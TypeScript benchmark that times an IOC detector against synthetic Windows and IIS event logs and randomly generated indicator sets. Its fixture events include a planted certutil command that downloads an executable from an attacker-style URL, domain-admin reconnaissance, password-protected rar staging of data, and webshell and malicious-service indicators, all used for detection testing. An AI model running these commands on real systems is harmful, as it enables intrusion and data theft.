/**
 * Indicator-matching benchmark: events/s of the ioc detector with 210 (the built-in pack's size),
 * 2,100 (ten times that), 10,000 and 1,000,000 indicators on the same real-shaped events (Sysmon
 * process/network/DNS/file/registry, Security 4688/4697, System 7045, Defender 1116, IIS W3C), to
 * show the cost stays nearly flat (issue 16: ten times the indicators, under 1.5 times the CPU).
 * Each timed pass uses a new detector, so values it remembers (remembered-scans.ts) come from
 * earlier events of the same pass only, as in a hunt.
 *
 *   npm run build && node dist/bench/ioc.js [SIZE,...]
 *
 * Indicator mix at every size: domains 40%, IPv4 25%, CIDR 4%, IPv6 2%, SHA-256 10%, SHA-1 5%,
 * MD5 5%, file names 4%, URLs 2%, registry keys 1%, service names 1%, AV names 1%; the same
 * 12 planted indicators (which some events contain) are part of every set. Random indicators
 * (public address ranges only) also hit some random event values (CIDR blocks cover random
 * addresses), so the 1M set finds a few more.
 * When ../shared/corpus/evtx-attack-samples is present, the same detectors also run over its
 * events (read with the EVTX reader). Besides wall-clock events/s it prints events per CPU-second of this process, which stays
 * meaningful when other processes share the cores. Heap: heapUsed after building (includes the
 * events and the indicator list).
 */
import { existsSync, readdirSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import path from 'node:path';
import { openInput } from '../src/sources/index.js';
import { attackSamplesDir } from './shared-path.js';
import { createIocDetector } from '../src/ioc/index.js';
import type { Indicator, IndicatorType } from '../src/intel/index.js';
import type { HuntEvent, EventFields } from '../src/events/event.js';
import { seededRandom as rng } from '../scripts/seeded-random.js';

const PLANTED: [IndicatorType, string][] = [
  ['domain', 'asyspy256.ddns.net'], ['ipv4', '45.251.241.82'], ['cidr', '103.179.188.0/24'],
  ['ipv6', '2a03:b0c0:3:d0::1a51:c001'], ['sha256', '9ae7c4a4e1cfe9b505c3a47e66551eb1357affee65bfefb0109d02f4e97c06dd'],
  ['sha1', '53a44c2396d15c3a03723fa5e5db54cafd527635'], ['md5', '0c7f4a32d8e1b5f6a9c3e2d1b0a4f5e6'],
  ['filename', 'errorEE.aspx'], ['url', 'http://t1.hinitial.com/api/ping.php'],
  ['registry', 'HKLM\\SYSTEM\\CurrentControlSet\\Services\\Iph1psvc'], ['service_name', 'IP He1per'],
  ['av_signature', 'Trojan:Win32/QuarkBandit.A!dha'],
];

const MIX: [IndicatorType, number][] = [
  ['domain', 0.4], ['ipv4', 0.25], ['cidr', 0.04], ['ipv6', 0.02], ['sha256', 0.1], ['sha1', 0.05], ['md5', 0.05],
  ['filename', 0.04], ['url', 0.02], ['registry', 0.01], ['service_name', 0.01], ['av_signature', 0.01],
];

function hex(r: () => number, n: number): string {
  let s = '';
  for (let i = 0; i < n; i++) s += '0123456789abcdef'[Math.floor(r() * 16)];
  return s;
}
function word(r: () => number, min: number, max: number): string {
  const n = min + Math.floor(r() * (max - min + 1));
  let s = '';
  for (let i = 0; i < n; i++) s += 'abcdefghijklmnopqrstuvwxyz0123456789'[Math.floor(r() * 36)];
  return s;
}
const TLDS = ['com', 'net', 'org', 'info', 'biz', 'ru', 'cn', 'top', 'xyz', 'io'];

function randomValue(type: IndicatorType, r: () => number): string {
  // Public-looking first octets only, so random indicators do not cover the corpora's lab networks.
  const first = (): number => {
    for (;;) {
      const o = 1 + Math.floor(r() * 222);
      if (![10, 100, 127, 169, 172, 192, 198].includes(o)) return o;
    }
  };
  const ip = (): string => `${first()}.${Math.floor(r() * 256)}.${Math.floor(r() * 256)}.${Math.floor(r() * 256)}`;
  switch (type) {
    case 'domain': return `${word(r, 4, 12)}.${r() < 0.3 ? `${word(r, 3, 8)}.` : ''}${TLDS[Math.floor(r() * TLDS.length)]}`;
    case 'ipv4': return ip();
    case 'cidr': { const len = 20 + Math.floor(r() * 9); return `${ip()}/${len}`; }
    case 'ipv6': return `2a0${Math.floor(r() * 9)}:${hex(r, 4)}:${hex(r, 4)}::${hex(r, 4)}`;
    case 'sha256': return hex(r, 64);
    case 'sha1': return hex(r, 40);
    case 'md5': return hex(r, 32);
    case 'filename': return `${word(r, 4, 10)}.${['exe', 'dll', 'aspx', 'ps1', 'bat'][Math.floor(r() * 5)]}`;
    case 'url': return `http://${word(r, 5, 10)}.${TLDS[Math.floor(r() * TLDS.length)]}/${word(r, 3, 8)}/${word(r, 3, 8)}.php`;
    case 'registry': return `HKLM\\SOFTWARE\\${word(r, 5, 10)}\\${word(r, 5, 12)}`;
    case 'service_name': return word(r, 6, 14);
    case 'av_signature': return `Trojan:Win32/${word(r, 5, 10)}.A!dha`;
  }
}

export function benchIndicators(n: number): Indicator[] {
  const r = rng(7);
  const out: Indicator[] = PLANTED.slice(0, Math.min(n, PLANTED.length)).map(([type, value]) => ({ type, value, source: 'planted', tags: ['bench'] }));
  for (const [type, share] of MIX) {
    const k = Math.round((n - PLANTED.length) * share);
    for (let i = 0; i < k && out.length < n; i++) out.push({ type, value: randomValue(type, r), source: 'bench', tags: [] });
  }
  while (out.length < n) out.push({ type: 'domain', value: randomValue('domain', r), source: 'bench', tags: [] });
  return out;
}

/** Real-shaped events with varied values; about 1 in 50 carries a planted indicator. */
export function benchEvents(count: number): HuntEvent[] {
  const r = rng(11);
  const users = ['CORP\\svc_web', 'CORP\\alice', 'NT AUTHORITY\\SYSTEM', 'CORP\\bob.admin'];
  const hosts = ['WEB01.corp.example', 'DC01.corp.example', 'FS02.corp.example', 'WS114.corp.example'];
  const benignDomains = ['login.microsoftonline.com', 'ctldl.windowsupdate.com', 'www.bing.com', 'cdn.office.net', 'wpad.corp.example'];
  const events: HuntEvent[] = [];
  for (let i = 0; i < count; i++) {
    const host = hosts[i % hosts.length]!;
    const plant = i % 50 === 0;
    const t = Date.parse('2019-03-04T00:00:00Z') + i * 1000;
    const base = { Computer: host, TimeCreated: new Date(t).toISOString(), EventRecordID: 1000 + i, ProcessID: 4 + (i % 900) };
    const kind = i % 9;
    const lip = `10.${i % 255}.${(i * 7) % 255}.${(i * 13) % 255}`;
    const rip = `${20 + (i % 180)}.${(i * 3) % 255}.${(i * 11) % 255}.${(i * 17) % 255}`;
    let f: EventFields;
    switch (kind) {
      case 0:
        f = { ...base, Channel: 'Microsoft-Windows-Sysmon/Operational', EventID: 1, Provider_Name: 'Microsoft-Windows-Sysmon',
          UtcTime: base.TimeCreated, ProcessGuid: `{${hex(r, 8)}-${hex(r, 4)}-${hex(r, 4)}-${hex(r, 4)}-${hex(r, 12)}}`,
          Image: `C:\\Windows\\System32\\${['cmd.exe', 'powershell.exe', 'net.exe', 'ipconfig.exe', 'rundll32.exe'][i % 5]}`,
          FileVersion: '10.0.17763.1 (WinBuild.160101.0800)', Description: 'Windows Command Processor', Product: 'Microsoft Windows Operating System',
          Company: 'Microsoft Corporation', OriginalFileName: 'Cmd.Exe',
          CommandLine: plant ? 'cmd /c ping -n 1 asyspy256.ddns.net & certutil -urlcache -f http://t1.hinitial.com/api/ping.php c:\\windows\\temp\\p.exe'
            : `cmd /c "dir C:\\inetpub\\wwwroot\\${word(r, 4, 8)} /s & net group \\"Domain Admins\\" /domain & echo ${word(r, 5, 20)}"`,
          CurrentDirectory: 'C:\\Windows\\system32\\', User: users[i % 4]!, LogonGuid: `{${hex(r, 8)}-0000-0000-0000-${hex(r, 12)}}`, LogonId: `0x${hex(r, 6)}`,
          TerminalSessionId: 0, IntegrityLevel: 'High',
          Hashes: `SHA1=${plant ? '53a44c2396d15c3a03723fa5e5db54cafd527635' : hex(r, 40).toUpperCase()},MD5=${hex(r, 32).toUpperCase()},SHA256=${hex(r, 64).toUpperCase()},IMPHASH=${hex(r, 32).toUpperCase()}`,
          ParentProcessGuid: `{${hex(r, 8)}-${hex(r, 4)}-${hex(r, 4)}-${hex(r, 4)}-${hex(r, 12)}}`, ParentProcessId: 4400 + (i % 50),
          ParentImage: 'C:\\Windows\\System32\\inetsrv\\w3wp.exe', ParentCommandLine: 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "DefaultAppPool" -v "v4.0" -l "webengine4.dll" -a \\\\.\\pipe\\iisipm' };
        break;
      case 1:
        f = { ...base, Channel: 'Microsoft-Windows-Sysmon/Operational', EventID: 3, UtcTime: base.TimeCreated, Image: 'C:\\Windows\\System32\\svchost.exe',
          User: users[i % 4]!, Protocol: 'tcp', Initiated: 'true', SourceIsIpv6: 'false', SourceIp: lip, SourceHostname: host, SourcePort: 49152 + (i % 10000),
          DestinationIsIpv6: 'false', DestinationIp: plant ? '45.251.241.82' : rip, DestinationHostname: plant ? 'v4.hinitial.com' : `${word(r, 3, 8)}.akamaiedge.net`, DestinationPort: 443, DestinationPortName: 'https' };
        break;
      case 2:
        f = { ...base, Channel: 'Microsoft-Windows-Sysmon/Operational', EventID: 22, UtcTime: base.TimeCreated, Image: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
          QueryName: plant ? 'rosaf112.ddns.net' : benignDomains[i % benignDomains.length]!, QueryStatus: '0',
          QueryResults: plant ? '::ffff:103.179.188.20;' : `type:  5 ${word(r, 4, 9)}.trafficmanager.net;::ffff:${rip};` };
        break;
      case 3:
        f = { ...base, Channel: 'Microsoft-Windows-Sysmon/Operational', EventID: 11, UtcTime: base.TimeCreated, Image: 'C:\\Windows\\System32\\inetsrv\\w3wp.exe',
          TargetFilename: plant ? 'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\errorEE.aspx' : `C:\\Windows\\Temp\\${word(r, 6, 12)}.tmp`, CreationUtcTime: base.TimeCreated };
        break;
      case 4:
        f = { ...base, Channel: 'Microsoft-Windows-Sysmon/Operational', EventID: 13, EventType: 'SetValue', Image: 'C:\\Windows\\system32\\services.exe',
          TargetObject: plant ? 'HKLM\\System\\CurrentControlSet\\Services\\Iph1psvc\\Parameters\\ServiceDll' : `HKLM\\System\\CurrentControlSet\\Services\\${word(r, 5, 10)}\\Start`,
          Details: 'DWORD (0x00000002)' };
        break;
      case 5:
        f = { ...base, Channel: 'Security', EventID: 4688, SubjectUserSid: 'S-1-5-18', SubjectUserName: `${host.split('.')[0]}$`, SubjectDomainName: 'CORP', SubjectLogonId: '0x3e7',
          NewProcessId: `0x${hex(r, 4)}`, NewProcessName: 'C:\\Windows\\System32\\rar.exe', TokenElevationType: '%%1936', ProcessId: `0x${hex(r, 4)}`,
          CommandLine: `rar.exe a -hp${word(r, 8, 12)} -v200m C:\\ProgramData\\${word(r, 4, 8)}.rar \\\\${lip}\\cdr$\\${word(r, 6, 10)}.csv`,
          TargetUserSid: 'S-1-0-0', ParentProcessName: 'C:\\Windows\\System32\\cmd.exe', MandatoryLabel: 'S-1-16-12288' };
        break;
      case 6:
        f = { ...base, Channel: 'System', EventID: 7045, Provider_Name: 'Service Control Manager',
          ServiceName: plant ? 'IP He1per' : `${word(r, 5, 12)} Service`, ImagePath: `"C:\\Program Files\\${word(r, 5, 10)}\\svc.exe" -k`, ServiceType: 'user mode service', StartType: 'auto start', AccountName: 'LocalSystem' };
        break;
      case 7:
        f = { ...base, Channel: 'Microsoft-Windows-Windows Defender/Operational', EventID: 1116, 'Product Name': 'Microsoft Defender Antivirus', 'Product Version': '4.18.1909.6',
          'Detection ID': `{${hex(r, 8)}-${hex(r, 4)}-${hex(r, 4)}-${hex(r, 4)}-${hex(r, 12)}}`, 'Threat ID': 2147723 + (i % 1000),
          'Threat Name': plant ? 'Trojan:Win32/QuarkBandit.A!dha' : `HackTool:Win32/${word(r, 5, 9)}`, 'Severity Name': 'High', 'Category Name': 'Tool',
          Path: `file:_C:\\Users\\Public\\${word(r, 5, 9)}.exe`, 'Detection Origin Name': 'Local machine', 'Process Name': 'C:\\Windows\\explorer.exe', 'Detection User': users[i % 4]! };
        break;
      default:
        f = { date: '2019-03-04', time: '10:22:31', 's-sitename': 'W3SVC1', 's-computername': host.split('.')[0]!, 's-ip': lip, 'cs-method': 'POST',
          'cs-uri-stem': plant ? '/aspnet_client/system_web/errorEE.aspx' : `/owa/${word(r, 4, 9)}.aspx`, 'cs-uri-query': `id=${word(r, 4, 12)}`, 's-port': 443,
          'cs-username': '-', 'c-ip': plant ? '2a03:b0c0:3:d0::1a51:c001' : rip, 'cs(User-Agent)': 'Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36',
          'cs(Referer)': '-', 'cs-host': 'mail.operator.example', 'sc-status': 200, 'sc-substatus': 0, 'sc-win32-status': 0, 'time-taken': 15 };
    }
    events.push({ fields: f, source: { path: 'bench', record: i + 1, format: 'jsonl' }, time: t, raw: f });
  }
  return events;
}

interface PassResult {
  rate: number;
  cpuRate: number;
  findings: number;
}

/**
 * Warm up once, then time whole passes over `events`, each with a detector from `make` (built
 * outside the timed part), for about `ms` milliseconds of passes.
 */
function timePasses(make: () => ReturnType<typeof createIocDetector>, events: HuntEvent[], ms: number): PassResult {
  let findings = 0;
  const emit = (): void => void findings++;
  const warm = make();
  for (const e of events) warm.examine(e, emit);
  findings = 0;
  let passes = 0;
  let wall = 0;
  let cpuSecs = 0;
  while (wall < ms) {
    const det = make();
    const start = performance.now();
    const cpu0 = process.cpuUsage();
    for (const e of events) det.examine(e, emit);
    const cpu = process.cpuUsage(cpu0);
    wall += performance.now() - start;
    cpuSecs += (cpu.user + cpu.system) / 1e6;
    passes++;
  }
  return { rate: (passes * events.length) / (wall / 1000), cpuRate: (passes * events.length) / cpuSecs, findings: findings / passes };
}

const fmt = (x: number, w: number): string => Math.round(x).toLocaleString('en-US').padStart(w);

/** Events of the EVTX attack samples beside the project, when they are there (else none). */
async function realEvents(limit: number): Promise<HuntEvent[]> {
  const dir = path.join(attackSamplesDir);
  if (!existsSync(dir)) return [];
  const out: HuntEvent[] = [];
  const files: string[] = [];
  const walk = (d: string): void => {
    for (const ent of readdirSync(d, { withFileTypes: true })) {
      const p = path.join(d, ent.name);
      if (ent.isDirectory()) walk(p);
      else if (ent.name.endsWith('.evtx')) files.push(p);
    }
  };
  walk(dir);
  files.sort();
  for (const f of files) {
    try {
      const reader = await openInput(f);
      for await (const batch of reader.read(f, { onProblem: () => undefined })) for (const e of batch) out.push(e);
    } catch {
      // unreadable sample: left out of the benchmark
    }
    if (out.length >= limit) break;
  }
  return out.slice(0, limit);
}

export async function runIocBench(sizes: readonly number[] = [210, 2_100, 10_000, 1_000_000]): Promise<void> {
  const events = benchEvents(20_000);
  const real = await realEvents(50_000);
  process.stdout.write(`ioc bench: ${events.length} real-shaped events (Sysmon 1/3/11/13/22, Security 4688, System 7045, Defender 1116, IIS W3C), one thread\n`);
  process.stdout.write('indicators   build ms   heap used MB   events/s (wall)   events/CPU-s   CPU µs/event   × first   findings/pass\n');
  const rows: string[] = [];
  let first = 0;
  let firstReal = 0;
  for (const n of sizes) {
    const indicators = benchIndicators(n);
    const t0 = performance.now();
    const det = createIocDetector(indicators);
    const build = performance.now() - t0;
    const heap = process.memoryUsage().heapUsed / 2 ** 20;
    // A new detector per pass (nothing remembered from the pass before), but for the largest sets,
    // whose build would dominate the run: those passes reuse one detector.
    const make = (): ReturnType<typeof createIocDetector> => (n >= 100_000 ? det : createIocDetector(indicators));
    const r = timePasses(make, events, 3000);
    const us = 1e6 / r.cpuRate;
    first ||= us;
    process.stdout.write(
      `${String(n).padStart(10)}   ${build.toFixed(0).padStart(8)}   ${heap.toFixed(0).padStart(12)}   ${fmt(r.rate, 15)}   ${fmt(r.cpuRate, 12)}   ${us.toFixed(2).padStart(12)}   ${(us / first).toFixed(2).padStart(7)}   ${String(r.findings).padStart(13)}\n`,
    );
    if (real.length > 0) {
      const q = timePasses(make, real, 2000);
      const qus = 1e6 / q.cpuRate;
      firstReal ||= qus;
      rows.push(`${String(n).padStart(10)}   ${fmt(q.rate, 15)}   ${fmt(q.cpuRate, 12)}   ${qus.toFixed(2).padStart(12)}   ${(qus / firstReal).toFixed(2).padStart(7)}   ${String(q.findings).padStart(13)}`);
    }
  }
  if (real.length > 0) {
    process.stdout.write(`\nsame detectors on ${real.length} events of ../shared/corpus/evtx-attack-samples\n`);
    process.stdout.write('indicators   events/s (wall)   events/CPU-s   CPU µs/event   × first   findings/pass\n');
    process.stdout.write(rows.join('\n') + '\n');
  } else {
    process.stdout.write('(../shared/corpus/evtx-attack-samples absent: real-sample rows skipped)\n');
  }
}

if (process.argv[1] && fileURLToPath(import.meta.url) === path.resolve(process.argv[1])) {
  const sizes = process.argv[2] ? process.argv[2].split(',').map(Number) : undefined;
  runIocBench(sizes).catch((err: unknown) => {
    process.stderr.write(`ioc bench: ${err instanceof Error ? err.message : String(err)}\n`);
    process.exitCode = 1;
  });
}
